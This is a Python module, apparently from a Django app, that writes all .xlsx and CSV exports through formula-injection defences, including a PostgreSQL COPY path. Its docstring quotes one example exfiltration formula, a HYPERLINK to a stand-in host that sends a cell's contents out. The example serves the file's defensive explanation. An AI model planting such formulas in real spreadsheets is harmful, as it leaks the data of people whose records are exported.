"""Spreadsheets whose text stays text: the one place every export writes .xlsx and CSV through.

A spreadsheet program runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula. Text an HTX manager typed (a street, a product's name) or a file someone
imported could then, in an officer's export, build a link that sends other rows away
(`=HYPERLINK("http://x.example/?s="&B2,"Xem")`), or worse. OWASP, "CSV Injection":
https://owasp.org/www-community/attacks/CSV_Injection. So:

- **.xlsx**: every text value is a string cell, never a formula, whatever it starts with.
  Workbooks are made by `XlsxWorkbook` (rvgsrust-xlsxwriter, Python bindings of
  rust_xlsxwriter): its sheets pass every value through `xlsx_value` and hand text to the
  writer as a string, which writes it as a string cell (formulas are written only by a method
  of the writer's that XlsxSheet does not expose). Numbers, dates and booleans stay typed
  cells; dates carry DATE_FORMAT. Long lists go through `XlsxSheet.write_rows` on a
  constant-memory sheet: one row in memory, the file written to disk as it grows.
- **CSV**: a text value whose first character is one of FORMULA_TRIGGERS gets a single quote
  in front (`=1+1` → `'=1+1`), as OWASP says. Only text is marked: a number is written as a
  number (-5 stays `-5`), but the *text* "-5" (a phone number "+84…", a code) gets the quote.
  Text that already starts with quotes before a trigger (`'=x`) gets one more, so that
  reading drops exactly one quote (`csv_restore`) and an export read back by our import gives
  the very text it was written from. PostgreSQL's COPY writes the same bytes through
  `sql_csv_neutralise`.

Writers must not make a workbook (rvgsrust-xlsxwriter's, XlsxWriter's or openpyxl's), a
`csv.writer` or a `COPY … TO STDOUT` themselves: `hoptac/core/tests/test_spreadsheet_safety.py`
scans the code for them, and `hoptac/core/tests/test_export_injection.py` downloads every
export with hostile text.
"""

from __future__ import annotations

import csv
import tempfile
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from django.db.models import Expression, QuerySet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CSV_MARK = "'"
# The same test as csv_neutralise, for PostgreSQL (the tab and carriage return are the
# characters themselves): optional quotes, then a trigger, at the start.
_SQL_TRIGGER_PATTERN = "^(" + CSV_MARK + "*[-=+@\t\r])"


# --- CSV --------------------------------------------------------------------------------------


def csv_needs_mark(text: str) -> bool:
    """Whether spreadsheet programs could read `text` as a formula (after any quotes)."""
    return text.lstrip(CSV_MARK).startswith(FORMULA_TRIGGERS)


def csv_neutralise(text: str) -> str:
    """`text` as a CSV cell may hold it: a quote in front when it starts with a trigger."""
    return CSV_MARK + text if csv_needs_mark(text) else text


def csv_restore(text: str) -> str:
    """The text csv_neutralise was given: the one quote it added dropped (an import of our own
    CSV gets the text back); any other text unchanged."""
    if text.startswith(CSV_MARK) and csv_needs_mark(text):
        return text[1:]
    return text


def csv_plain(value: Any) -> str:
    """A typed value as CSV text: ISO dates (read by Excel in any locale), plain numbers,
    TRUE/FALSE; None as an empty cell. Text is returned as it is (csv_cell marks it)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, datetime):
        return value.isoformat(sep=" ")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, Decimal):
        return str(value.quantize(Decimal(1))) if value == value.to_integral_value() else str(value)
    return str(value)


def csv_cell(value: Any) -> str:
    """A value as a CSV cell: text neutralised, anything else written as csv_plain does."""
    if isinstance(value, str):
        return csv_neutralise(value)
    return csv_plain(value)


class _Echo:
    """A file-like object whose write returns what it was given (for csv.writer)."""

    def write(self, value: str) -> str:
        return value


def csv_lines(
    rows: Iterable[Sequence[Any]],
    *,
    header: Sequence[Any],
    title_rows: Sequence[Sequence[Any]] = (),
    delimiter: str = ",",
) -> Iterator[str]:
    """CSV text, line by line, starting with a UTF-8 BOM (so that Excel reads the Vietnamese
    letters right), every cell through csv_cell: for a StreamingHttpResponse or a file."""
    writer = csv.writer(_Echo(), delimiter=delimiter)
    yield "\ufeff"
    for title in title_rows:
        yield writer.writerow([csv_cell(v) for v in title])
    yield writer.writerow([csv_cell(v) for v in header])
    for row in rows:
        yield writer.writerow([csv_cell(v) for v in row])


def sql_csv_neutralise(expression: Expression) -> Expression:
    """A text expression as csv_neutralise would write its value, in SQL, for CSV written by
    COPY: PostgreSQL's regexp_replace, asked only of values whose first character is a
    trigger or a quote (an integer test on ascii(): over a million rows the regular
    expression on every value would double the query's time). NULL stays NULL."""
    from django.db.models import Case, Func, TextField, Value, When
    from django.db.models.functions import Ord
    from django.db.models.lookups import In

    text = TextField()
    marked = Func(
        expression,
        Value(_SQL_TRIGGER_PATTERN),
        Value(CSV_MARK + "\\1"),
        function="regexp_replace",
        output_field=text,
    )
    first = In(Ord(expression), [ord(c) for c in (*FORMULA_TRIGGERS, CSV_MARK)])
    return Case(When(first, then=marked), default=expression, output_field=text)


def copy_csv_rows(rows: QuerySet[Any]) -> Iterator[bytes]:
    """The rows of `rows` (a PostgreSQL `values()` queryset whose text columns went through
    sql_csv_neutralise) as CSV bytes written by `COPY (SELECT …) TO STDOUT WITH CSV`, one row
    at a time, each line ending in "\\r\\n" as csv_lines writes it (no BOM, no header)."""
    from django.db import connections

    sql, params = rows.query.sql_with_params()
    connection = connections[rows.db]
    with (
        connection.cursor() as cursor,
        cursor.cursor.copy(f"COPY ({sql}) TO STDOUT WITH (FORMAT csv)", params) as copy,
    ):
        for data in copy:
            row = bytes(data)
            yield row[:-1] + b"\r\n" if row.endswith(b"\n") else row


# --- .xlsx ------------------------------------------------------------------------------------

DATE_FORMAT = "dd/mm/yyyy"
DATETIME_FORMAT = "dd/mm/yyyy hh:mm"
MONEY_FORMAT = "#,##0"
MAX_EXACT_NUMBER = 2**53  # larger whole numbers are written as text, not to lose digits
MAX_TEXT = 32_767  # Excel's limit for the text of one cell
# Excel counts days from 30 December 1899 (serial 60 is its 29 February 1900, which never
# was): a serial number is exact from 1 March 1900 on.
_EXCEL_EPOCH = date(1899, 12, 30).toordinal()
# (year, month) from which a date is written as a serial number, and the first year Excel has;
# compared by year and month, as a datetime does not compare with a date.
_SERIAL_FROM = (1900, 3)
_FIRST_YEAR = 1900


@dataclass(frozen=True, slots=True)
class Style:
    """How a cell looks: bold, wrapped (top-aligned), font size, number format."""

    bold: bool = False
    wrap: bool = False
    size: float | None = None
    num_format: str | None = None


BOLD = Style(bold=True)
HEADER = Style(bold=True, wrap=True)


def xlsx_value(value: Any) -> Any:
    """`value` as the .xlsx writer takes it: text as text (lazy translations and other
    objects as their text, cut at Excel's MAX_TEXT), whole numbers beyond MAX_EXACT_NUMBER
    as text, a Decimal as a whole number or a float; numbers, booleans and dates typed (a
    date before 1900, which Excel cannot hold, as its text dd/mm/yyyy)."""
    if isinstance(value, date):
        # Excel has no date before 1 January 1900: such a date is written as its text.
        return value if value.year >= _FIRST_YEAR else value.strftime("%d/%m/%Y")
    if value is None or isinstance(value, bool | float):
        return value
    if isinstance(value, int):
        return value if -MAX_EXACT_NUMBER < value < MAX_EXACT_NUMBER else str(value)
    if isinstance(value, Decimal):
        if value == value.to_integral_value():
            return int(value) if abs(value) < MAX_EXACT_NUMBER else format(value, "f")
        return float(value)
    text = value if isinstance(value, str) else str(value)
    return text[:MAX_TEXT]


def _serial(value: date) -> int | float:
    """Excel's serial number of a date (or a date and time) from 1 March 1900 on."""
    days = value.toordinal() - _EXCEL_EPOCH
    if isinstance(value, datetime):
        seconds = value.hour * 3600 + value.minute * 60 + value.second
        return days + (seconds + value.microsecond / 1e6) / 86400
    return days


def _naive(value: datetime) -> datetime:
    """A datetime as Excel holds it: local time without a zone."""
    if value.tzinfo is None:
        return value
    from django.utils import timezone

    return timezone.localtime(value).replace(tzinfo=None)


class XlsxSheet:
    """A worksheet of an XlsxWorkbook. Every value goes through xlsx_value, so text is a
    string cell and nothing is ever a formula (the writer has formulas only through a
    method this class does not expose)."""

    def __init__(self, book: XlsxWorkbook, sheet: Any, *, constant_memory: bool) -> None:
        self._book = book
        self._sheet = sheet
        self.constant_memory = constant_memory

    def write(self, row: int, column: int, value: Any, style: Style | None = None) -> None:
        """One cell (0-based row and column); a date without a date format gets DATE_FORMAT
        (DATETIME_FORMAT with a time)."""
        value = xlsx_value(value)
        if isinstance(value, date):
            if isinstance(value, datetime):
                value = _naive(value)
            if not (style and style.num_format):
                fmt = DATETIME_FORMAT if isinstance(value, datetime) else DATE_FORMAT
                style = replace(style or Style(), num_format=fmt)
        if value is None and style is None:
            return
        self._sheet.write(row, column, value, self._book.format_of(style))

    def write_row(self, row: int, values: Iterable[Any], style: Style | None = None) -> None:
        """A row of cells from column A, one by one (for short rows: titles, headers)."""
        for column, value in enumerate(values):
            self.write(row, column, value, style)

    def write_rows(
        self,
        first_row: int,
        rows: Iterable[Sequence[Any]],
        *,
        date_columns: frozenset[int] = frozenset(),
        batch: int = 1000,
    ) -> int:
        """Many rows from `first_row` on, in batches handed to the writer at once (the fast
        path of long lists); returns their number. Dates in `date_columns` are written as
        serial numbers and take the column's format (set with `column`); a row with any other
        date is written cell by cell, with DATE_FORMAT."""
        pending: list[list[Any]] = []
        start = number = first_row
        for values in rows:
            out: list[Any] = []
            by_cell = False
            for index, value in enumerate(values):
                kind = value.__class__
                if kind is str:
                    out.append(value if len(value) <= MAX_TEXT else value[:MAX_TEXT])
                elif value is None or kind is float or kind is bool:
                    out.append(value)
                elif isinstance(value, date) and value.year >= _FIRST_YEAR:
                    if index in date_columns and (value.year, value.month) >= _SERIAL_FROM:
                        naive = _naive(value) if isinstance(value, datetime) else value
                        out.append(_serial(naive))
                    else:
                        by_cell = True
                        out.append(value)
                else:
                    out.append(xlsx_value(value))
            if by_cell:
                if pending:
                    self._sheet.write_rows(start, 0, pending)
                    pending = []
                self.write_row(number, out)
                start = number + 1
            else:
                pending.append(out)
                if len(pending) >= batch:
                    self._sheet.write_rows(start, 0, pending)
                    start, pending = number + 1, []
            number += 1
        if pending:
            self._sheet.write_rows(start, 0, pending)
        return number - first_row

    def column(
        self, column: int, *, width: float | None = None, num_format: str | None = None
    ) -> None:
        """A column's width (in characters) and the number format its unstyled cells take."""
        if width is not None:
            self._sheet.set_column_width(column, width)
        if num_format:
            self._sheet.set_column_format(
                column, self._book.format_of(Style(num_format=num_format))
            )

    def freeze(self, row: int, column: int = 0) -> None:
        """Keep the rows above `row` and the columns left of `column` in view."""
        self._sheet.freeze_panes(row, column)

    def row_height(self, row: int, height: float) -> None:
        self._sheet.set_row_height(row, height)

    def merge(
        self, row: int, first_column: int, last_column: int, value: Any, style: Style | None = None
    ) -> None:
        """Cells of one row merged, holding `value` (text as text)."""
        value = xlsx_value(value)
        self._sheet.merge_range(
            row, first_column, row, last_column, value, self._book.format_of(style or Style())
        )

    def choice_list(self, first_row: int, last_row: int, column: int, choices: list[str]) -> bool:
        """A drop-down of `choices` on the cells of a column; False when Excel cannot hold the
        list in the rule (255 characters) and none was added."""
        from rvgsrust_xlsxwriter import DataValidation

        rule = DataValidation()
        try:
            rule.allow_list_strings([xlsx_value(choice) for choice in choices])
        except ValueError:
            return False
        self._sheet.add_data_validation(first_row, column, last_row, column, rule)
        return True


_SHEET_NAME_FORBIDDEN = str.maketrans(dict.fromkeys("[]:*?/\\", " "))


class XlsxWorkbook:
    """An .xlsx written to `path` by rvgsrust-xlsxwriter (Python bindings of rust_xlsxwriter):
    the one class that makes a workbook. Sheets made with `constant_memory=True` keep one row
    in memory and must be written top to bottom."""

    def __init__(self, path: str | Path) -> None:
        from rvgsrust_xlsxwriter import Workbook

        self._path = str(path)
        self._book = Workbook(self._path)
        self._formats: dict[Style, Any] = {}
        self._titles: set[str] = set()

    def format_of(self, style: Style | None) -> Any:
        """The writer's Format of a Style, made once per workbook."""
        if style is None:
            return None
        if style not in self._formats:
            fmt = self._book.add_format()
            if style.bold:
                fmt.set_bold()
            if style.wrap:
                fmt.set_text_wrap()
                fmt.set_vertical_align("top")
            if style.size:
                fmt.set_font_size(style.size)
            if style.num_format:
                fmt.set_num_format(style.num_format)
            self._formats[style] = fmt
        return self._formats[style]

    def add_sheet(self, title: str, *, constant_memory: bool = False) -> XlsxSheet:
        """A new sheet; its title made one Excel accepts (31 characters, none of []:*?/\\,
        unique in the workbook)."""
        name = (str(title).translate(_SHEET_NAME_FORBIDDEN).strip("' ") or "Sheet")[:31]
        base, number = name, 1
        while name.casefold() in self._titles:
            number += 1
            name = f"{base[: 31 - len(str(number)) - 1]} {number}"
        self._titles.add(name.casefold())
        sheet = self._book.add_worksheet(name, constant_memory=constant_memory)
        return XlsxSheet(self, sheet, constant_memory=constant_memory)

    def close(self) -> None:
        """Write the file."""
        self._book.close()


def xlsx_bytes(build: Callable[[XlsxWorkbook], None]) -> bytes:
    """The .xlsx that `build` writes into a new workbook, as bytes (for small workbooks:
    templates, forms, written reports)."""
    with tempfile.TemporaryDirectory(prefix="hoptac-xlsx-") as folder:
        path = Path(folder) / "book.xlsx"
        book = XlsxWorkbook(path)
        build(book)
        book.close()
        return path.read_bytes()
